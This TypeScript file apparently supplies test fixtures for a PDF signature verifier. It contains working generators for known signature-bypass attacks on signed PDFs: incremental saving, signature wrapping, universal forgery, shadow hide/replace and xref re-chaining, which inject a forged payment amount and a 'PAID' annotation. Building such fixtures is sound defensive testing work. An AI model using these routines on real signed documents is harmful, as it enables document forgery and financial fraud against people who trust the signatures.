/**
 * Generators for the published PDF signature attack classes (incremental saving, signature
 * wrapping, universal forgery, shadow hide/replace/hide-and-replace, odd byte ranges),
 * applied to fixtures signed by helpers/sign.ts.
 */
import { PdfView } from './pdf/document.js';
import { PdfRef, textOf } from './pdf/objects.js';
import { appendUpdate, docParts, nextNum, ser, serWith } from './pdf-edit.js';

const EVIL = Buffer.from('BT /F1 14 Tf 50 700 Td (Amount: 9,000,000,000 VND) Tj ET\n', 'latin1');

function contentsRef(buf: Buffer): { view: PdfView; pageNum: number; contentNum: number } {
  const { view, pageNum, page } = docParts(buf);
  const c = page.get('Contents');
  const first = Array.isArray(c) ? c[0] : c;
  if (!(first instanceof PdfRef)) throw new Error('page has no indirect content');
  return { view, pageNum, contentNum: first.num };
}

/** Incremental saving: a new content stream and the page pointed at it. */
export function appendNewPageContent(signed: Buffer): Buffer {
  const { pageNum, page } = docParts(signed);
  const n = nextNum(signed);
  return appendUpdate(signed, [
    { num: n, body: '<<>>', stream: EVIL },
    { num: pageNum, body: serWith(page, { Contents: `${n} 0 R` }) },
  ]);
}

/** Incremental saving: the existing content stream object redefined with other content. */
export function redefineContentStream(signed: Buffer): Buffer {
  const { contentNum } = contentsRef(signed);
  return appendUpdate(signed, [{ num: contentNum, body: '<<>>', stream: EVIL }]);
}

/** Incremental saving: a FreeText annotation added without DocMDP permission. */
export function addAnnotation(signed: Buffer): Buffer {
  const { view, pageNum, page } = docParts(signed);
  const n = nextNum(signed);
  const annots = view.resolve(page.get('Annots'));
  const list = [...(Array.isArray(annots) ? annots.map(ser) : []), `${n} 0 R`];
  return appendUpdate(signed, [
    { num: n, body: `<</Type /Annot /Subtype /FreeText /Rect [50 600 400 650] /Contents (PAID) /DA (/Helv 12 Tf 0 g)>>` },
    { num: pageNum, body: serWith(page, { Annots: `[${list.join(' ')}]` }) },
  ]);
}

/** Bytes appended after the last %%EOF that no xref describes. */
export function appendTrailingGarbage(signed: Buffer): Buffer {
  return Buffer.concat([signed, Buffer.from('\n3 0 obj\n<</Evil true>>\nendobj\n', 'latin1')]);
}

/** Signature wrapping: the field points at a copy of the signature dictionary placed later. */
export function wrapSignature(signed: Buffer, sigNum: number): Buffer {
  const view = new PdfView(signed);
  const obj = view.object(sigNum)!;
  const text = signed.toString('latin1', obj.start, obj.end);
  const body = text.slice(text.indexOf('obj') + 3, text.lastIndexOf('endobj')).trim();
  return appendUpdate(signed, [{ num: sigNum, body }]);
}

/** Signature wrapping: /ByteRange rewritten in a later revision to cover appended content. */
export function moveByteRange(signed: Buffer, sigNum: number): Buffer {
  const view = new PdfView(signed);
  const obj = view.object(sigNum)!;
  const text = signed.toString('latin1', obj.start, obj.end);
  const body = text.slice(text.indexOf('obj') + 3, text.lastIndexOf('endobj')).trim();
  const br = /\/ByteRange\s*\[([^\]]*)\]/.exec(body)!;
  const [a, b, c, d] = br[1]!.trim().split(/\s+/).map(Number) as [number, number, number, number];
  const moved = body.replace(br[0], `/ByteRange [${a} ${b} ${c} ${d + 200}]`);
  return appendUpdate(appendNewPageContent(signed), [{ num: sigNum, body: moved }]);
}

/** Universal forgery: same-length in-place edit of the signature dictionary's bytes. */
export function patchInPlace(signed: Buffer, from: RegExp, to: (m: string) => string): Buffer {
  const text = signed.toString('latin1');
  const m = from.exec(text);
  if (!m) throw new Error(`pattern ${from} not found`);
  const rep = to(m[0]);
  if (rep.length !== m[0].length) throw new Error('in-place patch must keep the length');
  const out = Buffer.from(signed);
  out.write(rep, m.index, 'latin1');
  return out;
}

/** What the shadow preparation left in the (still unsigned) document. */
export interface Shadow {
  buf: Buffer;
  /** Unused content stream listed in the xref. */
  shadowNum: number;
  contentNum: number;
  pageNum: number;
  /** Offsets of unused redefinitions of the content object and of the page (in no xref). */
  contentDefAt: number;
  pageDefAt: number;
}

/** Shadow preparation: objects present but unused when the document gets signed. */
export function addShadowObjects(unsigned: Buffer): Shadow {
  const { contentNum, pageNum } = contentsRef(unsigned);
  const { page } = docParts(unsigned);
  const shadowNum = nextNum(unsigned);
  const buf = appendUpdate(unsigned, [{ num: shadowNum, body: '<<>>', stream: EVIL }]);
  const contentDef = Buffer.concat([Buffer.from(`${contentNum} 0 obj\n<</Length ${EVIL.length}>>\nstream\n`, 'latin1'), EVIL, Buffer.from('\nendstream\nendobj\n', 'latin1')]);
  const pageDef = Buffer.from(`${pageNum} 0 obj\n${serWith(page, { Contents: `${shadowNum} 0 R` })}\nendobj\n`, 'latin1');
  const contentDefAt = buf.length;
  const pageDefAt = contentDefAt + contentDef.length;
  return { buf: Buffer.concat([buf, contentDef, pageDef]), shadowNum, contentNum, pageNum, contentDefAt, pageDefAt };
}

/** Shadow hide: after signing, the page's /Contents is pointed at the shadow stream. */
export function shadowHide(signed: Buffer, shadowNum: number): Buffer {
  const { pageNum, page } = docParts(signed);
  return appendUpdate(signed, [{ num: pageNum, body: serWith(page, { Contents: `${shadowNum} 0 R` }) }]);
}

/**
 * Shadow replace: an xref-only update maps the content object's number to bytes that were
 * already in the signed revision (the shadow stream renumbered there at signing time).
 */
export function shadowReplaceXrefOnly(signed: Buffer, targetNum: number, offsetOfShadowDef: number): Buffer {
  const view = new PdfView(signed);
  const size = Number(view.trailer.get('Size') ?? 0);
  const xrefAt = signed.length;
  const xref = `xref\n0 1\n0000000000 65535 f \n${targetNum} 1\n${String(offsetOfShadowDef).padStart(10, '0')} 00000 n \n`;
  const trailer = `trailer\n<</Size ${size} /Root ${ser(view.trailer.get('Root'))} /Prev ${view.startXref}>>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return Buffer.concat([signed, Buffer.from(xref + trailer, 'latin1')]);
}

/** Form fill after signing: the text field gets /V and its widget a new appearance stream. */
export function fillTextField(signed: Buffer, name: string, value: string): Buffer {
  const view = new PdfView(signed);
  const af = view.dict(view.catalog().get('AcroForm'))!;
  const fields = view.resolve(af.get('Fields')) as PdfRef[];
  for (const ref of fields) {
    const f = view.dict(ref)!;
    if (textOf(f.get('T')) !== name) continue;
    const n = nextNum(signed);
    const hex = Buffer.from(value, 'latin1').toString('hex');
    const objs = [
      { num: n, body: '<</Type /XObject /Subtype /Form /BBox [0 0 200 20]>>', stream: Buffer.from(`BT /Helv 10 Tf 2 5 Td <${hex}> Tj ET`, 'latin1') },
    ];
    const kids = view.resolve(f.get('Kids'));
    if (Array.isArray(kids) && kids[0] instanceof PdfRef) {
      const w = view.dict(kids[0])!;
      return appendUpdate(signed, [...objs, { num: ref.num, body: serWith(f, { V: `<${hex}>` }) }, { num: kids[0].num, body: serWith(w, { AP: `<</N ${n} 0 R>>` }) }]);
    }
    return appendUpdate(signed, [...objs, { num: ref.num, body: serWith(f, { V: `<${hex}>`, AP: `<</N ${n} 0 R>>` }) }]);
  }
  throw new Error(`no field ${name}`);
}

/**
 * Disagreeing xref chain: an xref-only update re-lists every object at its signed offset but
 * chains (/Prev) to the revision before the signature, skipping the signed xref section.
 */
export function rechainXref(signed: Buffer): Buffer {
  const view = new PdfView(signed);
  const older = view.sections[1];
  if (!older) throw new Error('needs at least two revisions');
  const rows = [...view.entries].filter(([, e]) => e.type === 'offset').sort((a, b) => a[0] - b[0]);
  let xref = 'xref\n0 1\n0000000000 65535 f \n';
  for (const [num, e] of rows) if (e.type === 'offset') xref += `${num} 1\n${String(e.offset).padStart(10, '0')} ${String(e.gen).padStart(5, '0')} n \n`;
  const at = signed.length;
  const trailer = `trailer\n<</Size ${Number(view.trailer.get('Size'))} /Root ${ser(view.trailer.get('Root'))} /Prev ${older.offset}>>\nstartxref\n${at}\n%%EOF\n`;
  return Buffer.concat([signed, Buffer.from(xref + trailer, 'latin1')]);
}

/** Benign tool behaviour: /Info ModDate refreshed and a new XMP packet after signing. */
export function refreshMetadata(signed: Buffer): Buffer {
  const { view, rootNum, catalog } = docParts(signed);
  const info = view.trailer.get('Info');
  const n = nextNum(signed);
  const objs = [
    { num: n, body: '<</Type /Metadata /Subtype /XML>>', stream: Buffer.from('<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"/><?xpacket end="w"?>', 'latin1') },
    { num: rootNum, body: serWith(catalog, { Metadata: `${n} 0 R` }) },
  ];
  if (info instanceof PdfRef) objs.push({ num: info.num, body: serWith(view.dict(info)!, { ModDate: '(D:20261122100000Z)', Producer: '(Some signing tool)' }) });
  return appendUpdate(signed, objs);
}
